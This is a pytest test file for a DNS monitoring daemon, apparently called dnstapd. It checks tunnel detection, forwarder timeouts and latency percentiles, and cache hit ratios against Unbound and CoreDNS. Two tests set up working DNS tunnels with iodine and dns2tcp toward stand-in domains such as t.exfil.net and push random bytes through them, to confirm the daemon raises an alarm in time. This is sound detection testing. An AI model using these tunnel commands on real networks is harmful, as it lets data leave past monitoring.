"""The health as dnstapd sees it, beside real servers: tunnels through a resolver, forwarders that are slow or
dead, and the cache's own statistics."""
import contextlib
import os
import random
import re
import socket
import struct
import subprocess
import tempfile
import threading
import time
import urllib.request

import pytest

import harness
import network
import queries
import servers

# Servers at the far ends, beside those of the suite.
IODINED, DNS2TCPD, SLOW, DYING = "192.0.2.70", "192.0.2.71", "192.0.2.72", "192.0.2.73"
# The two ends of the wire to the client's own network.
NEAR, FAR = "203.0.113.1", "203.0.113.2"
PAYLOAD = 4096


@pytest.fixture
def folder():
    with tempfile.TemporaryDirectory(prefix="dnstapd-health-", ignore_cleanup_errors=True) as made:
        os.chmod(made, 0o755)
        yield made


def ip(*words):
    subprocess.run(["ip", *words], check=True)


@contextlib.contextmanager
def addresses(*wanted):
    for address in wanted:
        ip("address", "replace", f"{address}/32", "dev", "lo")
    yield


@contextlib.contextmanager
def running(*command, **more):
    process = subprocess.Popen(command, stdin=subprocess.DEVNULL, stdout=subprocess.PIPE,
                               stderr=subprocess.STDOUT, **more)
    try:
        yield process
    finally:
        process.kill()
        process.wait()


@contextlib.contextmanager
def client_network():
    """A second network, which sees ours through a wire of two ends only; what runs a command in it."""
    with running("unshare", "--net", "sleep", "600") as sleeper:
        ours = os.readlink("/proc/self/ns/net")
        wait(lambda: os.readlink(f"/proc/{sleeper.pid}/ns/net") != ours, 10, "no second network")
        inside = ["nsenter", "-t", str(sleeper.pid), "-n"]
        ip("link", "add", "health0", "type", "veth", "peer", "name", "health1")
        try:
            ip("link", "set", "health1", "netns", str(sleeper.pid))
            ip("address", "add", f"{NEAR}/30", "dev", "health0")
            ip("link", "set", "health0", "up")
            for words in (f"address add {FAR}/30 dev health1", "link set health1 up", "link set lo up",
                          f"route add default via {NEAR}"):
                subprocess.run([*inside, "ip", *words.split()], check=True)
            yield inside
        finally:
            ip("link", "delete", "health0")


def wait(condition, seconds, why):
    end = time.monotonic() + seconds
    while not (found := condition()):
        assert time.monotonic() < end, why() if callable(why) else why
        time.sleep(0.05)
    return found


class Watched(servers.Unbound):
    """An Unbound of its own, so that these tests wait for no others."""
    name = "watched"


@contextlib.contextmanager
def resolver(folder, kind=Watched, extra="", **settings):
    """A server whose dnstap goes to a collector of its own; both."""
    path = os.path.join(folder, "dnstap.sock")
    with harness.Daemon(extra=f'[input.unix-socket]\nenable = true\npath = "{path}"\nmode = "0666"\n{extra}',
                        inputs=False) as daemon:
        server = kind(folder, path)
        for key, value in settings.items():
            setattr(server, key, value)
        server.start()
        try:
            yield daemon, server
        finally:
            server.kill()


def forward(zone, *to):
    lines = "".join(f"  forward-addr: {address}\n" for address in to)
    return f'forward-zone:\n  name: "{zone}"\n{lines}'


def tunnels(daemon):
    return [alarm["subject"] for alarm in daemon.json("/alarms")["alarms"] if alarm["kind"] == "tunnel"]


def leave(send, daemon, subject, arrived=None):
    """Sends a little now and then, until the tunnel is named; the bytes that had left by then, or had
    arrived."""
    sent, end = 0, time.monotonic() + 60
    left = lambda: sent if arrived is None else len(arrived)
    while subject not in tunnels(daemon):
        assert time.monotonic() < end, f"{left()} bytes left, alarms: {daemon.json('/alarms')}"
        assert left() < PAYLOAD, f"{left()} bytes left unseen: {daemon.json('/alarms')}"
        sent += send(os.urandom(64))
        time.sleep(0.2)
    return left()


@pytest.mark.xdist_group("watched")
@pytest.mark.skipif(not os.path.exists("/dev/net/tun"), reason="a container without /dev/net/tun")
def test_iodine_is_named_before_it_took_4_kib(folder):
    """iodine through Unbound, from a network of its own; what leaves is counted at its own interface."""
    with addresses(IODINED), client_network() as inside, \
            resolver(folder, more=forward("t.exfil.net.", IODINED)) as (daemon, server), \
            running("iodined", "-f", "-c", "-P", "secret", "-l", IODINED, "-d", "health2", "203.0.113.129/29",
                    "t.exfil.net") as far:
        wait(lambda: "health2:" in open("/proc/net/dev").read(), 20, lambda: far.stdout.read1())
        # -r: through the resolver even where the server would be in reach; -T TXT: what most resolvers let
        # through.
        with running(*inside, "iodine", "-f", "-r", "-P", "secret", "-m", "200", "-T", "TXT", "-d", "health3",
                     server.address4, "t.exfil.net"):
            state = lambda: subprocess.run([*inside, "ip", "-s", "-o", "link", "show", "health3"],
                                           capture_output=True, text=True).stdout
            wait(lambda: "UP" in state() or tunnels(daemon), 30, "iodine does not come up")

            def send(payload):
                code = (f"import socket; socket.socket(socket.AF_INET, socket.SOCK_DGRAM)"
                        f".sendto(bytes.fromhex('{payload.hex()}'), ('203.0.113.129', 9))")
                subprocess.run([*inside, "python3", "-c", code], check=True)
                return len(payload)
            sent = leave(send, daemon, "exfil.net.")
    return f"after {sent} bytes of payload"


@pytest.mark.xdist_group("watched")
def test_dns2tcp_is_named_before_it_took_4_kib(folder):
    with addresses(DNS2TCPD), client_network() as inside, socket.create_server(("127.0.0.1", 0)) as sink, \
            resolver(folder, more=forward("d.leak.com.", DNS2TCPD)) as (daemon, server):
        conf = os.path.join(folder, "dns2tcpd.conf")
        with open(conf, "w") as file:
            file.write(f"listen = {DNS2TCPD}\nport = 53\nuser = nobody\nchroot = {folder}\n"
                       f"domain = d.leak.com\n"
                       f"resources = sink:127.0.0.1:{sink.getsockname()[1]}\n")
        sink.settimeout(30)
        with running("dns2tcpd", "-F", "-f", conf) as far:
            wait(lambda: servers_listen(DNS2TCPD), 20, lambda: far.stdout.read1())
            # Its standard input and output are the connection. It ends now and then, and is begun anew.
            begin = lambda: subprocess.Popen(
                [*inside, "dns2tcpc", "-z", "d.leak.com", "-r", "sink", "-l", "-", server.address4],
                stdin=subprocess.PIPE,
                stdout=subprocess.DEVNULL,
                stderr=subprocess.DEVNULL)
            arrived, clients = bytearray(), [begin()]

            def read():
                while True:
                    with contextlib.suppress(OSError):
                        connection, _ = sink.accept()
                        threading.Thread(target=lambda: [arrived.extend(got) for got in
                                                         iter(lambda: connection.recv(4096), b"")],
                                         daemon=True).start()
                        continue
                    return

            def send(payload):
                if clients[-1].poll() is not None:
                    clients.append(begin())
                    assert len(clients) < 20, "it ends again and again"
                with contextlib.suppress(BrokenPipeError):
                    clients[-1].stdin.write(payload)
                    clients[-1].stdin.flush()
                return len(payload)
            threading.Thread(target=read, daemon=True).start()
            try:
                sent = leave(send, daemon, "leak.com.", arrived)
                wait(lambda: arrived, 20, "nothing arrived")
            finally:
                for near in clients:
                    near.kill()
                    near.wait()
    return f"after {sent} bytes of payload"


def servers_listen(address):
    """Whether somebody has UDP port 53 of an address."""
    wanted = f"{struct.unpack('=I', socket.inet_aton(address))[0]:08X}:0035"
    with open("/proc/net/udp") as file:
        return any(line.split()[1] == wanted for line in file.readlines()[1:])


class Forwarder(threading.Thread):
    """A server that answers each query with one address, after a time that it chooses; from a moment on
    not."""

    def __init__(self, address, delays):
        super().__init__(daemon=True)
        self.socket = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.socket.bind((address, 53))
        self.delays, self.dies_after = delays, None
        self.asked = self.answered = 0
        self.start()

    def run(self):
        while True:
            try:
                query, peer = self.socket.recvfrom(4096)
            except OSError:
                return
            self.asked += 1
            if self.dies_after is not None and self.answered >= self.dies_after:
                continue
            self.answered += 1
            threading.Timer(next(self.delays), self.answer, (query, peer)).start()

    def answer(self, query, peer):
        end = query.index(b"\0", 12) + 5
        head = query[:2] + struct.pack(">HHHHH", 0x8180, 1, 1, 0, 0)
        record = struct.pack(">HHHIH", 0xC00C, 1, 1, 60, 4) + socket.inet_aton("192.0.2.99")
        with contextlib.suppress(OSError):
            self.socket.sendto(head + query[12:end] + record, peer)


def ask(server, names, between=0.01):
    """Asks without waiting for the answers."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.connect((server.address4, 53))
        for number, name in enumerate(names):
            sock.send(harness.dns(name, ident=number + 1))
            time.sleep(between)
        time.sleep(1)


@pytest.mark.xdist_group("watched")
def test_a_slow_and_a_dying_forwarder(folder):
    """Timeouts are those that the dead one left unanswered, percentiles those of the latencies in the
    records."""
    chance = random.Random(7)
    with addresses(SLOW, DYING):
        slow = Forwarder(SLOW, iter(lambda: chance.lognormvariate(-2.5, 0.5), None))
        dying = Forwarder(DYING, iter(lambda: 0.02, None))
        dying.dies_after = 20
        more = forward("slow.net.", SLOW) + forward("dying.net.", DYING)
        with resolver(folder, more=more) as (daemon, server):
            ask(server, [f"n{number}.slow.net." for number in range(250)])
            ask(server, [f"n{number}.dying.net." for number in range(20)], between=0.05)
            ask(server, [f"m{number}.dying.net." for number in range(10)])
            time.sleep(2.5)  # it keeps what it tells for a second
            server.stop()
            daemon.settle()
            # A minute later, by somebody's clock.
            sender = harness.Sender(os.path.join(folder, "dnstap.sock"))
            sender.send(harness.message(5, harness.dns("later.example."), when=(int(time.time()) + 90, 0)))
            wait(lambda: upstream(daemon, DYING)["timeouts"] > 0, 20, lambda: daemon.json("/upstreams"))
            for forwarder, address in ((dying, DYING), (slow, SLOW)):
                told = [record for record in daemon.records() if record["response-ip"] == address]
                asked, answered = (sum(record["message"] == f"FORWARDER_{what}" for record in told)
                                   for what in ("QUERY", "RESPONSE"))
                found = upstream(daemon, address)
                # Unbound asks again before a slow answer comes, and does not read that any more; of the last
                # second before its end it may not tell.
                assert asked >= (30 if forwarder is dying else 250) and asked <= forwarder.asked
                assert answered <= forwarder.answered
                assert [found[key] for key in ("queries", "responses", "timeouts")] == [
                    asked, answered, asked - answered], (found, asked, answered)
            assert found["timeouts"] < 50
            assert upstream(daemon, DYING)["responses"] == 20 and upstream(daemon, DYING)["timeouts"] >= 10
            latencies = sorted(record["latency"]
                               for record in told
                               if record["message"] == "FORWARDER_RESPONSE")
            assert len(latencies) >= 250
            for percent in (50, 95, 99):
                exact = latencies[-(-len(latencies) * percent // 100) - 1]
                assert abs(found[f"latency-p{percent}"] / exact - 1) < 0.063, (percent, exact, found)
    return f"{found['queries']} queries, p95 {found['latency-p95']}, {dying.asked - dying.answered} timeouts"


def upstream(daemon, address):
    found = [server for server in daemon.json("/upstreams")["upstreams"] if server["server"] == address]
    return found[0] if found else {"queries": 0, "timeouts": 0}


def often(count, names):
    """Names, the first ones more often."""
    chance = random.Random(11)
    return [f"n{min(int(chance.paretovariate(0.7)), names)}.wild.example.com." for _ in range(count)]


def cache(daemon):
    counters = daemon.json("/counters?more=response/cached,response/fetched")["counters"]
    return counters["response/cached"], counters["response/fetched"]


def compare_cache(daemon, server, hits):
    """Asks; what the server says of its cache, from `hits`, beside what dnstapd says, within 3 %."""
    time.sleep(1.5)  # what it was asked at its start is through
    before = (*hits(), *cache(daemon))
    names = often(1500, 400)
    queries.dig(server.address4, [f"{name} A" for name in names], network.CLIENTS4[0])
    time.sleep(1.5)
    daemon.settle()
    theirs_hits, theirs_all, cached, fetched = (now - then
                                                for now, then in zip((*hits(), *cache(daemon)), before))
    ours, theirs = cached / (cached + fetched), theirs_hits / theirs_all
    assert theirs_all == len(names) == cached + fetched, (theirs_all, cached, fetched)
    assert 0.3 < theirs < 0.95 and abs(ours - theirs) < 0.03, (ours, theirs)
    return f"{ours:.4f}, by itself {theirs:.4f}"


@pytest.mark.xdist_group("watched")
def test_the_hit_ratio_is_that_of_unbound(folder):
    with resolver(folder) as (daemon, server):
        def hits():
            told = server.statistics()
            return int(told["total.num.cachehits"]), int(told["total.num.queries"])
        return compare_cache(daemon, server, hits)


@pytest.mark.xdist_group("coredns")
def test_the_hit_ratio_is_that_of_coredns(folder):
    port = harness.free_port()
    with resolver(folder, servers.CoreDns, more=f"prometheus 127.0.0.1:{port}\n  cache") as (daemon, server):
        def hits():
            with urllib.request.urlopen(f"http://127.0.0.1:{port}/metrics", timeout=10) as answer:
                text = answer.read().decode()
            total = lambda name: sum(int(float(value)) for value in
                                     re.findall(rf"^{name}(?:{{[^}}]*}})? (\S+)$", text, re.MULTILINE))
            return total("coredns_cache_hits_total"), total("coredns_dns_requests_total")
        return compare_cache(daemon, server, hits)
